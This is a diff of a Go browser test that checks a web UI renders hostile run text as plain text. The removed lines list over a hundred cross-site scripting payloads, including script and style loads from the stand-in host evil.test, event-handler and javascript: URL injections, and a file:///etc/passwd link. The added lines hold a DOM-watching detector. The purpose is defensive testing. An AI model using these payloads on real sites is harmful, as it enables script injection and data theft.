@@ -1,222 +1,397 @@
 package web_test
 
 import (
+	"bytes"
+	"context"
 	"encoding/json"
 	"fmt"
 	"net/url"
 	"os"
 	"path/filepath"
-	"reflect"
+	"slices"
 	"strings"
+	"sync"
 	"testing"
+	"time"
 
-	"github.com/chromedp/chromedp/kb"
+	"github.com/chromedp/cdproto/network"
+	"github.com/chromedp/chromedp"
 	"github.com/stretchr/testify/require"
+	"golang.org/x/net/html"
 
 	"github.com/convene-run/convene/events"
-	"github.com/convene-run/convene/internal/tsgen/types"
 	"github.com/convene-run/convene/web"
 )
 
-// hostile are texts that would run, or call out, if a page took them for markup.
-// Each calls boom() or asks evil.test for something.
-func hostile() []string {
-	run := "boom()"
-	vectors := []string{
-		`<script>` + run + `</script>`, `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`, `<script src="https://evil.test/x.js"></script>`,
-		`</script><script>` + run + `</script>`, `<scr<script>ipt>` + run + `</script>`, `<script/x>` + run + `</script>`,
-		`<script type=module>import "//evil.test/x.js"</script>`, `</textarea><script>` + run + `</script>`, `</title><script>` + run + `</script>`,
-		`--><script>` + run + `</script>`, `]]><script>` + run + `</script>`, "<script\n>" + run + "</script\n>", `<svg><script>` + run + `</script></svg>`,
-		`<svg><script href="https://evil.test/x.js"/></svg>`, `<svg><animate onbegin=` + run + ` attributeName=x dur=1s>`, `<svg><set onbegin=` + run + `>`,
-		`<svg><use href="https://evil.test/x.svg#a"/></svg>`, `<svg><image href="https://evil.test/x.png"/></svg>`, `<svg><foreignObject><iframe src="https://evil.test/"></iframe></foreignObject></svg>`,
-		`<svg><a xlink:href="javascript:` + run + `"><text>x</text></a></svg>`, `<svg><style>@import "https://evil.test/x.css"</style></svg>`,
-		`<math href="javascript:` + run + `">x</math>`, `<math><mi xlink:href="javascript:` + run + `">x</mi></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=` + run + `></annotation-xml></math>`,
-		`<iframe src="javascript:` + run + `"></iframe>`, `<iframe srcdoc="<script>parent.` + run + `</script>"></iframe>`, `<iframe src="https://evil.test/"></iframe>`,
-		`<object data="javascript:` + run + `"></object>`, `<object data="https://evil.test/x"></object>`, `<embed src="https://evil.test/x">`, `<embed src="javascript:` + run + `">`,
-		`<link rel=stylesheet href="https://evil.test/x.css">`, `<link rel=prefetch href="https://evil.test/x">`, `<link rel=import href="https://evil.test/x">`, `<link rel="dns-prefetch" href="//evil.test">`,
-		`<meta http-equiv=refresh content="0;url=https://evil.test/">`, `<meta http-equiv=refresh content="0;url=javascript:` + run + `">`, `<base href="https://evil.test/">`,
-		`<style>@import url(https://evil.test/x.css)</style>`, `<style>body{background:url(https://evil.test/x)}</style>`, `<style>@font-face{font-family:x;src:url(https://evil.test/f)}*{font-family:x}</style>`,
-		`<div style="background:url(https://evil.test/x)">x</div>`, `<div style="background-image:image-set('https://evil.test/x' 1x)">x</div>`, `<div style="width:expression(` + run + `)">x</div>`, `<p style="-moz-binding:url(//evil.test/x)">x</p>`,
-		`<form action="https://evil.test/"><button autofocus>x</button></form>`, `<form><button formaction="javascript:` + run + `">x</button></form>`, `<isindex action="javascript:` + run + `" type=image>`,
-		`<img src="https://evil.test/x.png">`, `<img srcset="https://evil.test/x.png 1x">`, `<picture><source srcset="https://evil.test/x.png"><img></picture>`, `<img src=x:x onerror="` + run + `">`,
-		`<img src=x onerror=` + run + `//`, `<img/src=x/onerror=` + run + `>`, "<img src=x\tonerror\t=\t" + run + ">", `<img src="x" onerror="&#98;oom()">`, `<img src=x onerror=\x62oom()>`, `"><img src=x onerror=` + run + `>`, `'><img src=x onerror=` + run + `>`,
-		`<input autofocus onfocus=` + run + `>`, `<textarea autofocus onfocus=` + run + `></textarea>`, `<select autofocus onfocus=` + run + `></select>`, `<details open ontoggle=` + run + `>x</details>`,
-		`<video src="https://evil.test/x" autoplay></video>`, `<video poster="https://evil.test/x"></video>`, `<audio src="https://evil.test/x" autoplay onerror=` + run + `></audio>`, `<video><source onerror=` + run + `></video>`, `<track src="https://evil.test/x">`,
-		`<body onload=` + run + `>`, `<body background="https://evil.test/x">`, `<table background="https://evil.test/x"><td>x</table>`, `<frameset onload=` + run + `>`, `<marquee onstart=` + run + `>x</marquee>`, `<a onmouseover=` + run + `>x</a>`,
-		`<a href="javascript:` + run + `" id=x>x</a>`, `<a href="&#106;avascript:` + run + `">x</a>`, `<a href=" java` + "\t" + `script:` + run + `">x</a>`, `<a href="data:text/html,<script>` + run + `</script>">x</a>`, `<a ping="https://evil.test/p" href="/">x</a>`,
-		`<template><img src=x onerror=` + run + `></template>`, `<noscript><p title="</noscript><img src=x onerror=` + run + `>">`, `<xmp><img src=x onerror=` + run + `></xmp>`, `<plaintext><script>` + run + `</script>`, `<portal src="https://evil.test/"></portal>`,
-		`<custom-element onclick=` + run + ` tabindex=0 autofocus onfocus=` + run + `>`, `<div contenteditable onfocus=` + run + ` autofocus>x</div>`, `<button popovertarget=x>y</button><div popover id=x onbeforetoggle=` + run + `>z</div>`,
-		`![x](https://evil.test/x.png)`, `![x](https://evil.test/x.png "t")`, `![x][r]` + "\n\n[r]: https://evil.test/x.png", `![x](javascript:` + run + `)`, `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Ym9vbSgpPg==)`, `[![x](https://evil.test/i.png)](https://evil.test/)`,
-		`[x](javascript:` + run + `)`, `[x](JaVaScRiPt:` + run + `)`, `[x](javascript&colon;` + run + `)`, `[x](java&Tab;script:` + run + `)`, `[x](<javascript:` + run + `>)`, `[x](vbscript:` + run + `)`, `[x](data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=)`,
-		`[x](file:///etc/passwd)`, `[x](blob:https://evil.test/x)`, `[x](https://evil.test/)`, `[x](//evil.test/)`, `<javascript:` + run + `>`, `<https://evil.test/>`, `https://evil.test/auto`, `[x][r]` + "\n\n[r]: javascript:" + run,
-		"[x](javascript:" + run + " 'title\" onmouseover=\"" + run + "')", `[<img src=x onerror=` + run + `>](x)`, "```html\n<script>" + run + "</script>\n```", "    <img src=x onerror=" + run + ">", "`<img src=x onerror=" + run + ">`", "| <img src=x onerror=" + run + "> |\n| --- |\n| <script>" + run + "</script> |",
-		"- <img src=x onerror=" + run + ">\n- [ ] <script>" + run + "</script>", "> <iframe src=\"https://evil.test/\">", "# <img src=x onerror=" + run + ">", "<!-- x --><img src=x onerror=" + run + "><!--", "<?x <img src=x onerror=" + run + ">?>", "<![CDATA[<img src=x onerror=" + run + ">]]>",
-		`{{constructor.constructor('` + run + `')()}}`, "${" + run + "}", `javascript:` + run, `__proto__`, `constructor`, "\u2028" + run, "\u202e<img src=x onerror=" + run + ">", `<img src=x onerror=` + run + `>` + "\x00", `%3Cscript%3E` + run + `%3C/script%3E`, `&lt;script&gt;` + run + `&lt;/script&gt;`,
-		`*/` + run + `/*`, `";` + run + `;//`, `';` + run + `;//`, `\";` + run + `;//`, `</style><script>` + run + `</script>`, `" autofocus onfocus="` + run + `" x="`, `x" style="background:url(https://evil.test/x)" y="`,
+// watchHostile runs before the page's own script. Whatever is put into the document,
+// for however short, is looked at: elements that load or run, handlers, addresses,
+// styles; and what a payload that runs would call is counted.
+const watchHostile = `
+window.booms = 0;
+window.bad = [];
+for (const name of ["boom", "alert", "confirm", "prompt", "open", "print"]) window[name] = () => { window.booms++; };
+document.addEventListener("securitypolicyviolation", (e) => window.bad.push("policy: " + e.violatedDirective + " " + e.blockedURI + " " + e.sample));
+window.addEventListener("error", (e) => window.bad.push("error: " + e.message));
+window.addEventListener("unhandledrejection", (e) => window.bad.push("rejected: " + (e.reason?.stack ?? e.reason)));
+(() => {
+	const tags = new Set(("html head body div main header nav section article h1 h2 h3 h4 h5 h6 p span a button ul ol li dl dt dd table caption colgroup col thead tbody tfoot tr th td " +
+		"input select option optgroup label textarea details summary canvas pre code kbd samp strong em b i s del ins br hr blockquote time progress meter small sub sup dialog form output fieldset legend mark wbr").split(" "));
+	const own = new Set("script style link meta title base noscript".split(" "));
+	const loads = new Set("src srcset srcdoc data poster background ping action formaction xlink:href cite manifest codebase classid usemap longdesc icon lowsrc dynsrc archive profile http-equiv".split(" "));
+	const look = (el) => {
+		const tag = el.localName;
+		if (el.namespaceURI !== "http://www.w3.org/1999/xhtml") window.bad.push("not HTML: " + tag);
+		const first = document.readyState === "loading" || !document.querySelector("main");
+		if (!tags.has(tag) && !(first && own.has(tag))) window.bad.push("element: " + el.outerHTML.slice(0, 200));
+		if (first && own.has(tag)) return;
+		for (const { name, value } of el.attributes) {
+			const link = name === "href" && tag === "a" && (/^(#(\/|main$)|\/api\/v1\/)/.test(value) ||
+				(["http:", "https:", "mailto:"].includes(el.protocol) && el.target === "_blank" && /noopener.*noreferrer/.test(el.rel)));
+			if (name.startsWith("on") || loads.has(name) || (name === "href" && !link) || (name === "style" && /url|import|expression|image|javascript/i.test(value))) {
+				window.bad.push("attribute: " + name + "=" + value.slice(0, 200) + " of " + tag);
+			}
+		}
+	};
+	new MutationObserver((changes) => {
+		for (const change of changes) {
+			if (change.type === "attributes") look(change.target);
+			for (const node of change.addedNodes) {
+				if (node.nodeType !== Node.ELEMENT_NODE) continue;
+				look(node);
+				for (const el of node.querySelectorAll("*")) look(el);
+			}
+		}
+	}).observe(document, { subtree: true, childList: true, attributes: true });
+})();
+window.turn = () => new Promise((done) => { const c = new MessageChannel(); c.port1.onmessage = () => done(); c.port2.postMessage(0); });
+window.until = async (what, test) => {
+	for (const end = performance.now() + 60000; !test(); window.turns = (window.turns ?? 0) + 1, await turn()) {
+		if (performance.now() > end) throw new Error(what + " never came: " + location.hash + "\n" + document.body.innerText.slice(0, 2000));
 	}
-	return vectors
-}
+};
+window.goto = async (hash) => {
+	if (location.hash === hash) return;
+	await new Promise((done) => { addEventListener("hashchange", () => done(), { once: true }); location.hash = hash; });
+	await turn();
+	await turn();
+};
+// Each change of the address is work for the whole browser, and there are thousands.
+history.replaceState = () => {};
+window.press = (selector) => { document.querySelector(selector).click(); return turn(); };
+// walk looks at a run in every way that the page has, and gives the JSON of the events
+// as the page shows it, and the titles of the timeline.
+window.walk = async (id, seqs, moments, opened) => {
+	const run = "#/runs/" + encodeURIComponent(id);
+	const words = encodeURIComponent(id);
+	await goto(run);
+	await until("the log", () => document.querySelectorAll("#log-rows .row").length >= seqs.length);
+	await until("the document", () => document.querySelectorAll("#document .entry").length >= 2);
+	const [tags, changes] = [".document .bar button:nth-of-type(1)", ".document .bar button:nth-of-type(2)"];
+	await press(tags);
+	for (const s of document.querySelectorAll("#document .s")) {
+		s.dispatchEvent(new PointerEvent("pointerover", { bubbles: true }));
+		s.focus();
+	}
+	await turn();
+	const titles = new Set();
+	const canvas = document.querySelector("canvas");
+	const box = canvas.getBoundingClientRect();
+	for (let y = 28; y < box.height; y += 20) {
+		for (let x = 1; x < box.width; x += box.width / 20) {
+			canvas.dispatchEvent(new MouseEvent("mousemove", { bubbles: true, clientX: box.left + x, clientY: box.top + y }));
+			titles.add(canvas.title);
+		}
+	}
+	await press(changes);
+	await press(tags);
+	const since = document.querySelector(".document .bar label:last-child select");
+	since.value = "0";
+	since.dispatchEvent(new Event("change", { bubbles: true }));
+	await until("the changes", () => document.querySelector("#document .gone"));
+	await press(changes);
+	await press("#plan-rows .row:last-child");
+	for (const seq of moments) {
+		const scrubber = document.querySelector(".scrubber input");
+		scrubber.value = seq;
+		scrubber.dispatchEvent(new InputEvent("input", { bubbles: true }));
+		await until("moment " + seq, () => document.querySelector(".scrubber .moment").textContent.startsWith("seq " + seq + " "));
+	}
+	await press(".scrubber .live");
+	const shown = [];
+	let key = "Home";
+	for (const seq of opened ? seqs : []) {
+		document.getElementById("log-rows").dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true }));
+		key = "ArrowDown";
+		await until("event " + seq, () => document.querySelector(".detail h3")?.textContent === "Event " + seq);
+		shown.push(document.querySelector(".detail pre").textContent);
+	}
+	await goto(run + "?find=" + words + "&agent=" + words + "&hide=" + words + "&zoom=" + words + "&speed=" + words + "&sel=" + words + "&base=" + words);
+	return JSON.stringify({ shown, titles: [...titles] });
+};
+`
 
-// poisoned is an event of a kind with the text in every field that holds text, as
-// deep as they go, except where the fold needs a value that fits.
-func poisoned(t *testing.T, kind events.Kind, text string) []events.Event {
+// lookOut opens a tab in which whatever hostile texts achieve is noted.
+func lookOut(t *testing.T) (*tab, func()) {
 	t.Helper()
-	payload, err := types.Payload(kind)
-	require.NoError(t, err)
-	value := reflect.New(payload)
-	poison(value.Elem(), text)
-	return []events.Event{value.Elem().Interface().(events.Event)}
+	b := browse(t)
+	var mu sync.Mutex
+	var sockets []string
+	ctx, cancel := context.WithCancel(b.ctx)
+	heard := make(chan struct{})
+	opened := chromedp.Events(ctx, network.WebSocketCreated)
+	go func() {
+		defer close(heard)
+		for event, err := range opened {
+			if err != nil {
+				return
+			}
+			mu.Lock()
+			sockets = append(sockets, event.URL)
+			mu.Unlock()
+		}
+	}()
+	t.Cleanup(func() { cancel(); <-heard })
+	b.before(watchHostile)
+	// So high that every row of a run is there at once.
+	// It need not be painted fine: that is most of the work.
+	require.NoError(t, chromedp.Do(b.ctx, chromedp.EmulateViewport(1600, 2600, chromedp.EmulateScale(0.2))))
+	return b, func() {
+		require.Empty(t, js[[]string](b, "[...new Set(bad)].slice(0, 20)"))
+		require.Zero(t, js[int](b, "booms"), "a payload ran")
+		require.Zero(t, js[int](b, "Object.keys(Object.prototype).length"), "a prototype was touched")
+		address := js[string](b, "location.href")
+		mu.Lock()
+		defer mu.Unlock()
+		for _, asked := range append(b.requested(), sockets...) {
+			host := func(address string) string {
+				u, err := url.Parse(address)
+				require.NoError(t, err, address)
+				return u.Host
+			}
+			require.True(t, asked == "about:blank" || host(asked) == host(address), "the page asked for %s", asked)
+		}
+		b.mu.Lock()
+		defer b.mu.Unlock()
+		for _, message := range b.errors {
+			require.Regexp(t, "status of (404|422)", message, "only the server's refusals may be in the console")
+		}
+	}
 }
 
-func poison(v reflect.Value, text string) {
-	switch {
-	case !v.CanSet():
-	case v.Type() == reflect.TypeFor[json.RawMessage]():
-		body, err := json.Marshal(map[string]string{"kind": text, text: text})
-		if err == nil {
-			v.SetBytes(body)
-		}
-	case v.Kind() == reflect.String:
-		v.SetString(text)
-	case v.Kind() == reflect.Struct:
-		for i := range v.NumField() {
-			poison(v.Field(i), text)
-		}
-	case v.Kind() == reflect.Pointer:
-		v.Set(reflect.New(v.Type().Elem()))
-		poison(v.Elem(), text)
-	case v.Kind() == reflect.Slice:
-		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
-		poison(v.Index(0), text)
-	}
-}
-
-// hostileLog is a run in which every text is one of the vectors: every field of
-// every kind that a fold takes so, each kind in turn, and documents, tasks and
-// agents of their own for every vector.
-func hostileLog(t *testing.T) (*events.Memory, *script) {
-	log := events.NewMemory()
-	s := newScript(t, log)
-	vectors := hostile()
-	require.GreaterOrEqual(t, len(vectors), 100)
-	at := 0
-	next := func() string { at++; return vectors[at%len(vectors)] }
-	start := events.WorkflowStarted{Message: next(), Prompt: next(), Team: next(), BinaryVersion: next(), Config: json.RawMessage(`{"x":"<script>boom()</script>"}`)}
-	for range 6 {
-		start.Agents = append(start.Agents, events.AgentCard{ID: events.AgentID(next()), DisplayName: next(), Models: []string{next()}})
-	}
-	s.add(start)
-	// Any kind that the page's fold takes in any state is poisoned as a whole.
-	free := []events.Kind{
-		events.KindWarning, events.KindError, events.KindLimitReached, events.KindFacilitatorMessage, events.KindAgentMessage, events.KindUserMessage,
-		events.KindToolCall, events.KindToolStarted, events.KindDispatchRefused, events.KindModelCalled, events.KindHistoryCompacted,
-		events.KindRunSuspended, events.KindRunResumed, events.KindFinalAnswer, events.KindCancelRequested,
-	}
-	envs := []events.Envelope{}
-	add := func(agent, dispatch string, facts ...events.Event) {
-		for _, fact := range facts {
-			envs = append(envs, events.Envelope{Run: s.run, Agent: events.AgentID(agent), Dispatch: events.DispatchID(dispatch), Data: fact})
-		}
-	}
-	for i, vector := range vectors {
-		id := i + 1
-		add(next(), "", events.TasksCreated{Tasks: []events.Task{{ID: events.TaskID(id), Text: vector, AssignedTo: start.Agents[i%6].ID}}})
-		dispatch := fmt.Sprintf("d%d %s", id, vector)
-		opened := poisoned(t, events.KindAgentStarted, vector)[0].(events.AgentStarted)
-		opened.TaskIDs = []events.TaskID{events.TaskID(id)}
-		add(vector, dispatch, opened)
-		written := poisoned(t, events.KindDocumentUpdated, vector)[0].(events.DocumentUpdated)
-		written.Version, written.EntryID, written.Replaced, written.Merged, written.Spans = id, events.EntryID(id), nil, nil, nil
-		written.Tasks = []events.TaskID{events.TaskID(id)}
-		if i > 100 {
-			written.Section, written.Slot = "one", "main"
-		}
-		add(vector, dispatch, written)
-		for _, kind := range free {
-			add(vector, dispatch, poisoned(t, kind, vector)...)
-		}
-		if i%2 == 0 {
-			add(vector, dispatch, poisoned(t, events.KindAgentFinished, vector)...)
-			add(vector, "", events.TaskUpdated{Task: events.Task{ID: events.TaskID(id), Text: vector, AssignedTo: start.Agents[i%6].ID, Finished: true}, AutoCompleted: i%4 == 0})
-		}
-	}
-	seen := map[events.Kind]bool{events.KindWorkflowStarted: true, events.KindWorkflowFinished: true, events.KindRunCancelled: true}
-	add("", "", poisoned(t, events.KindFinalAnswer, strings.Join(vectors, "\n\n"))...)
-	add("", "", poisoned(t, events.KindRunCancelled, vectors[0])...)
-	finished := poisoned(t, events.KindWorkflowFinished, vectors[1])[0].(events.WorkflowFinished)
-	add("", "", finished)
+// walk has the page show a run, and gives the JSON of its events as it is shown.
+func (b *tab) walk(envs []events.Envelope, opened bool) []string {
+	b.t.Helper()
+	var seqs, moments []events.Seq
 	for _, env := range envs {
-		seen[env.Data.Kind()] = true
-	}
-	for _, kind := range events.Kinds() {
-		if strings.HasPrefix(string(kind), "batch_") {
-			continue // stands in a batch's thread
+		seqs = append(seqs, env.Seq)
+		switch env.Data.Kind() {
+		case events.KindAgentStarted, events.KindRunSuspended, events.KindCancelRequested:
+			moments = append(moments, env.Seq)
 		}
-		require.True(t, seen[kind], "%s is in the log", kind)
 	}
-	require.NoError(t, log.Append(t.Context(), s.key, s.epoch, s.seq, envs))
-	s.seq += events.Seq(len(envs))
-	return log, s
+	id := string(envs[0].Run)
+	arguments, err := json.Marshal([]any{id, seqs, moments, opened})
+	require.NoError(b.t, err)
+	var seen struct{ Shown, Titles []string }
+	require.NoError(b.t, json.Unmarshal([]byte(js[string](b, fmt.Sprintf("walk(...%s)", arguments))), &seen))
+	require.True(b.t, slices.ContainsFunc(seen.Titles, func(title string) bool { return strings.Contains(title, id) }), "%q in %q", id, seen.Titles)
+	return seen.Shown
 }
 
-// Proves R71: of a hundred hostile texts and more, in every text field of every kind
-// of event, nothing runs and nothing is asked for: on the list, in the run, in the
-// export.
+// hostileServer tells hostile things of itself: teams, and agents at work.
+type hostileServer struct{ web.Runs }
+
+func (hostileServer) Teams() []web.TeamInfo {
+	var teams []web.TeamInfo
+	for _, vector := range hostile() {
+		teams = append(teams, web.TeamInfo{Name: vector, Description: vector, Specialists: []events.AgentID{events.AgentID(vector)}})
+	}
+	return teams
+}
+
+func (hostileServer) Live(key events.ThreadKey) ([]web.LiveAgent, bool) {
+	text, since := string(key.Thread), time.Unix(1_800_000_000, 0)
+	agent := web.LiveAgent{
+		Agent: events.AgentID(text), DisplayName: text, Dispatch: events.DispatchID(text), Call: events.ModelCallID(text), Phase: text,
+		Since: since, Heard: since, Attempt: 2, RetryReason: text, Tail: text,
+	}
+	again, calling := agent, agent
+	again.Phase, again.RetryAt, again.Dispatch = "retrying", &since, "again"
+	calling.Phase, calling.Tail, calling.InCall, calling.Dispatch = "writing", `{"x":"`+text, true, "calling"
+	return []web.LiveAgent{agent, again, calling}, true
+}
+
+// Proves R71: of a hundred hostile texts and more, each in every place of every kind
+// of event where a text can stand, nothing runs and nothing is asked for, in any
+// view of the page.
 func TestHostileTextIsText(t *testing.T) {
 	if raceDetector {
 		t.Skip("the page is what is looked at, and it knows no race detector")
 	}
-	log, s := hostileLog(t)
-	server := serve(t, web.Config{Log: log})
-	b := browse(t)
-	b.before(`window.booms = 0; window.boom = () => { window.booms++; }; window.alert = window.boom;`)
-	look := func(address string, lists ...string) {
-		b.open("about:blank")
-		b.open(address)
-		b.wait(`document.querySelector('.runs a') || document.querySelectorAll('#log-rows .row').length > 3`)
-		// Every event, task and sentence is shown once; what has the focus would fire.
-		for _, list := range lists {
-			js[bool](b, fmt.Sprintf(`(async () => {
-				const el = document.querySelector(%q);
-				if (!el) return true;
-				for (let top = 0; top <= el.scrollHeight; top += el.clientHeight) {
-					el.scrollTop = top;
-					await new Promise((done) => requestAnimationFrame(() => setTimeout(done, 0)));
+	log := events.NewMemory()
+	runs := map[string][]events.Envelope{}
+	for i, vector := range hostile() {
+		key := events.ThreadKey{Tenant: events.LocalTenant, Thread: events.ThreadID(vector)}
+		epoch, err := log.Claim(t.Context(), key, "test", false)
+		require.NoError(t, err)
+		runs[vector] = hostileRun(t, vector)
+		require.NoError(t, log.Append(t.Context(), key, epoch, 0, runs[vector]))
+		require.NoError(t, log.Append(t.Context(), key, epoch, events.Seq(len(runs[vector])), failedRun(t, vector, i%2 == 0)))
+	}
+	server := serve(t, web.Config{Log: log, Runs: hostileServer{}, Version: hostile()[0]})
+	served, filed := newAccount(t), newAccount(t)
+	t.Run("pages", func(t *testing.T) {
+		for part := range slices.Chunk(hostile(), len(hostile())/2+1) {
+			t.Run("served", func(t *testing.T) {
+				t.Parallel()
+				showServed(t, server, served, runs, part)
+				showFiled(t, filed, part)
+			})
+		}
+		t.Run("list", func(t *testing.T) {
+			t.Parallel()
+			showList(t)
+		})
+	})
+	// The tenant is whose server it is: a served page shows no other.
+	served.whole(t, "tenant_id")
+	filed.whole(t)
+}
+
+// showServed has the page show the run of each vector, one that failed, and what it
+// says where there is none.
+func showServed(t *testing.T, server *served, a *account, runs map[string][]events.Envelope, vectors []string) {
+	b, harmless := lookOut(t)
+	b.open(server.url("/"))
+	b.wait(`document.querySelectorAll(".runs a").length === 50`)
+	for _, vector := range vectors {
+		for _, body := range b.walk(runs[vector], true) {
+			a.book(t, body)
+		}
+		js[bool](b, fmt.Sprintf(`(async () => {
+			await goto("#/runs/" + encodeURIComponent(%q));
+			await until("the failure", () => document.querySelector(".notice.failure"));
+			await goto("#/runs/" + encodeURIComponent(%q));
+			await until("the refusal", () => document.querySelector("main.message h1"));
+			return true;
+		})()`, "failed "+vector, "no "+vector))
+	}
+	harmless()
+}
+
+// maxFileRuns keeps a file small: the page reads all of it for each run that it shows.
+const maxFileRuns = 12
+
+// showFiled writes the runs to HTML files, opens them from disk and has the page show
+// each. What a file holds is what the page finds in it.
+func showFiled(t *testing.T, a *account, vectors []string) {
+	b, harmless := lookOut(t)
+	for part := range slices.Chunk(vectors, maxFileRuns) {
+		var runs [][]events.Envelope
+		var bodies [][]byte
+		for _, vector := range part {
+			envs := hostileRun(t, vector)
+			for i := range envs {
+				envs[i].Tenant, envs[i].Thread, envs[i].Seq = events.TenantID(vector), events.ThreadID(vector), events.Seq(len(bodies)+1)
+				body, err := events.Encode(envs[i])
+				require.NoError(t, err)
+				bodies = append(bodies, body)
+			}
+			runs = append(runs, envs)
+		}
+		path := filepath.Join(t.TempDir(), "hostile.html")
+		file, err := os.Create(path)
+		require.NoError(t, err)
+		require.NoError(t, web.WriteHTML(file, events.RunSummary{Request: part[0]}, func(yield func([]byte, error) bool) {
+			for _, body := range bodies {
+				if !yield(body, nil) {
+					return
 				}
-				return true;
-			})()`, list))
+			}
+		}))
+		require.NoError(t, file.Close())
+		b.open("about:blank")
+		b.open((&url.URL{Scheme: "file", Path: path}).String())
+		b.wait(`document.querySelectorAll("#log-rows .row").length > 0`)
+		for _, body := range strings.Split(strings.TrimSpace(js[string](b, `document.getElementById("log").textContent`)), "\n") {
+			a.book(t, body)
 		}
-		b.press("t", "c", "j", "j", "l", kb.ArrowDown, kb.ArrowDown, kb.End, kb.Home)
+		for _, envs := range runs {
+			b.walk(envs, false)
+		}
+		harmless()
 	}
-	look(server.url("/"))
-	look(server.url("/#/runs/"+string(s.run)), "#log-rows", "#plan-rows", "#document")
+}
+
+// showList has the page list runs of all vectors, and say what is wrong with a filter.
+// The ids of these runs sort, as ids do by which a list is paged.
+func showList(t *testing.T) {
+	log := events.NewMemory()
+	for i, vector := range hostile() {
+		key := events.ThreadKey{Tenant: events.LocalTenant, Thread: events.ThreadID(vector)}
+		epoch, err := log.Claim(t.Context(), key, "test", false)
+		require.NoError(t, err)
+		envs := hostileRun(t, vector)
+		for j := range envs {
+			envs[j].Run = events.RunID(fmt.Sprintf("%04d %s", i, vector))
+			envs[j].Time = envs[j].Time.Add(time.Duration(i) * time.Hour)
+		}
+		require.NoError(t, log.Append(t.Context(), key, epoch, 0, envs))
+	}
+	server := serve(t, web.Config{Log: log, Runs: hostileServer{}, Version: hostile()[0]})
+	b, harmless := lookOut(t)
+	b.open(server.url("/"))
+	b.wait(`document.querySelectorAll(".runs a").length === 50 && document.querySelector(".start option")`)
+	for shown := 50; shown < len(hostile()); {
+		js[bool](b, `document.querySelector(".runs + button").click() ?? true`)
+		shown = min(shown+50, len(hostile()))
+		b.wait(fmt.Sprintf(`document.querySelectorAll(".runs a").length === %d`, shown))
+	}
+	requests := js[[]string](b, `[...document.querySelectorAll(".runs .request")].map((e) => e.textContent)`)
+	offered := js[[]string](b, `[...document.querySelectorAll(".start option")].map((o) => o.value)`)
+	for i, vector := range hostile() {
+		require.Equal(t, strings.Join(strings.Fields(vector), " "), requests[len(requests)-1-i])
+		require.Equal(t, vector, offered[i])
+	}
+	js[bool](b, fmt.Sprintf(`goto("#/?status=" + encodeURIComponent(%q)).then(() => true)`, strings.Join(hostile(), ",")))
+	b.wait(`document.querySelector(".trouble")?.textContent.includes("query.status")`)
+	js[bool](b, fmt.Sprintf(`goto("#/?q=" + encodeURIComponent(%q)).then(() => true)`, hostile()[0]))
+	b.wait(`!document.querySelector(".trouble")`)
 	b.shot("hostile")
-	for _, kind := range []string{"script", "iframe", "object", "embed", "img", "image", "video", "audio", "link[href*=evil]", "svg", "math", "style", "base", "form[action]", "[onerror]", "[onload]", "[onfocus]", "[srcset]", "[ping]"} {
-		allowed := 0
-		if kind == "script" {
-			allowed = 1 // the page's own
+	harmless()
+}
+
+// Proves R71: what a run says cannot change the markup of its export, which is that
+// of any other.
+func TestHostileTextIsTextInTheExport(t *testing.T) {
+	plain := skeleton(t, "Plan three days in Kyoto")
+	require.NotEmpty(t, plain)
+	for _, vector := range hostile() {
+		require.Equal(t, plain, skeleton(t, vector), vector)
+	}
+}
+
+// skeleton gives the elements of an export with their attributes, and what is beside
+// the log in them.
+func skeleton(t *testing.T, text string) []string {
+	t.Helper()
+	var out bytes.Buffer
+	envs := hostileRun(t, text)
+	require.NoError(t, web.WriteHTML(&out, events.RunSummary{Run: events.RunID(text), Team: text, Request: text}, func(yield func([]byte, error) bool) {
+		for i := range envs {
+			envs[i].Tenant, envs[i].Thread, envs[i].Seq = events.TenantID(text), events.ThreadID(text), events.Seq(i+1)
+			body, err := events.Encode(envs[i])
+			if !yield(body, err) {
+				return
+			}
 		}
-		require.Equal(t, allowed, js[int](b, fmt.Sprintf(`document.querySelectorAll(%q).length`, kind)), kind)
+	}))
+	var elements []string
+	tokens := html.NewTokenizer(&out)
+	for kind := tokens.Next(); kind != html.ErrorToken; kind = tokens.Next() {
+		if kind != html.TextToken {
+			elements = append(elements, tokens.Token().String())
+		}
 	}
-	links := js[[]string](b, `[...document.querySelectorAll('#document a')].map((a) => a.protocol)`)
-	require.NotEmpty(t, links)
-	for _, protocol := range links {
-		require.Contains(t, []string{"http:", "https:", "mailto:"}, protocol)
-	}
-	require.True(t, js[bool](b, `[...document.querySelectorAll('#document a')].every((a) => a.rel.includes('noopener') && a.rel.includes('noreferrer') && a.target === '_blank')`))
-	require.Zero(t, js[int](b, "booms"))
-
-	_, _, export := server.get(t, "/api/v1/runs/"+string(s.run)+"/export?format=html")
-	path := filepath.Join(t.TempDir(), "hostile.html")
-	require.NoError(t, os.WriteFile(path, []byte(export), 0o600))
-	look((&url.URL{Scheme: "file", Path: path}).String(), "#plan-rows", "#document")
-	require.Zero(t, js[int](b, "booms"))
-	require.Zero(t, js[int](b, "Object.keys({}.__proto__).length"), "no prototype was touched")
-
-	for _, request := range b.requested() {
-		require.NotContains(t, request, "evil.test")
-		ours := strings.HasPrefix(request, server.url("/")) || strings.HasPrefix(request, "file://") || request == "about:blank"
-		require.True(t, ours, request)
-	}
-	b.clean()
+	return elements
 }
